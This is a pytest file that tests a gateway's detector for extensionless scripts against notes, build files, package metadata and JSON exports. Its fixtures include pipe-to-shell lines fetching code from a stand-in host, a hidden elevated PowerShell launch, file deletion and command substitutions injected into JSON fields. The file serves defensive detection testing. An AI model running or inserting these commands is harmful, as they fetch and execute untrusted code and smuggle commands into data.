"""Notes, licences, descriptions of packages and files of builds quote code and have no extension; scripts without one are no text."""

from __future__ import annotations

import pytest

from gateway.detect.base import Scope
from gateway.detect.script import ScriptDetector
from gateway.model.artifact import Artifact, ArtifactKind
from gateway.model.content import Sample
from gateway.model.transaction import Direction

SCOPE = Scope(Direction.INBOUND, "", (), ())
PROSE = "The module reads the statement of the bank and writes one line for every entry that it finds.\n"
CODE = "import os\n\n\ndef main():\n    os.system('calc')\n\n\nif __name__ == '__main__':\n    main()\n"
SHELL = "cd /tmp\ncurl -s http://h.example/a | sh\n"
QUOTES = {
    "README": f"Statements\n==========\n\n{PROSE}\nUse it so::\n\n    import os\n    os.system('x')\n\n{PROSE}",
    "INSTALL": f"# Install\n\n{PROSE}{PROSE}\n```\ncurl -s https://h.example/a | sh\n```\n",
    "COPYING": f"{PROSE * 3}    Some lines are indented here and there, as they are\nRun, copy or change the program as you like, it is free.\n",
    "NOTES": "こちらは銀行の明細を読み込み、一行ずつ書き出すための手順です。\n次のとおりに実行してください。\n結果は画面に出ます。\n\n    import os\n    os.system('x')\n",
    "PKG-INFO": f"Metadata-Version: 2.1\nName: lab\nVersion: 1.0\nLicense: MIT\n\nLab\n\n{CODE}",
    "Makefile": "CC = gcc\n\nall: $(OBJ)\n\t$(CC) -o $@ $^\n\ninstall:\n\tchmod +x lab\n\tfor i in a b; do cp $$i /usr/bin; done\n",
    "Dockerfile": "FROM debian:12\nRUN apt-get update && curl -sL https://h.example/setup | sh\nCOPY . /app\n",
    "Gemfile": "source 'https://rubygems.org'\ngem 'rails'\ngem 'rake'\nrequire 'fileutils'\n",
    "Jenkinsfile": "pipeline {\n  agent any\n  stages { stage('a') { steps { sh '''\nset -e\npython3 -c 'print(1)'\n''' } } }\n}\n",
}
SCRIPTS = {
    "README": CODE, "LICENSE": SHELL, "invoice": f"\"\"\"{PROSE * 9}\"\"\"\n{CODE}", "notes": f"# {PROSE}" * 9 + SHELL, "report": f"{SHELL}\n{PROSE * 9}",
    "Makefile": CODE, "Dockerfile": SHELL, "PKG-INFO": f"\n{SHELL}Metadata-Version: 2.1\nName: lab\nVersion: 1\n", "manual": f"{PROSE}{CODE * 4}",
    "list": "\n".join(f"    {line}" for line in SHELL.splitlines()), "task": "calc\nnote\ncalc\n" + "Start-Process powershell -WindowStyle Hidden -Verb RunAs\n" * 3, "Gemfile": "x = 1\nrequire 'socket'\n",
}


def look(text: str, *names: str) -> list[str]:
    artifact = Artifact(1, 0, ArtifactKind.PART, names, detected_type="text/plain")
    return [f.code for f in ScriptDetector(SCOPE).look(Sample(artifact, text.encode()))]


@pytest.mark.parametrize("name", QUOTES)
def test_what_is_there_to_be_read_is_no_script(name: str) -> None:
    assert look(QUOTES[name], name) == look(QUOTES[name].replace("\n", "\r\n"), f"lab-1.0/{name}") == []
    assert look(QUOTES[name], f"{name}.jpg") != [], "as long as it has its own name"


@pytest.mark.parametrize("name", SCRIPTS)
def test_a_script_without_an_extension_stays_one(name: str) -> None:
    assert look(SCRIPTS[name], name) != []


def test_the_first_line_of_a_script_tells_before_its_words() -> None:
    assert look(f"#!/bin/sh\n{PROSE * 9}", "README") == ["SCRIPT-SHELL"]


@pytest.mark.parametrize("text", ['{"a": "list; sh -c ls", "b": [1, "echo x && rm -f /tmp/a"]}\n', '\n[{"cmd": "powershell -File a.ps1"}]'])
@pytest.mark.parametrize("name", ["export", "a.dat", "photo.jpg"])
def test_json_holds_no_code(text: str, name: str) -> None:
    assert look(text, name) == look(text.replace('"b"', '"c": "' + "x" * 70_000 + '", "b"'), name) == []
    for other in (text + "\nrm -f /tmp/a\n", text.replace("list", "$(id)").replace("cmd", "`id`"), text.replace('"', "'"), "[" * 9000 + text):
        assert look(other, name) != [], "broken, or with what shells put in"
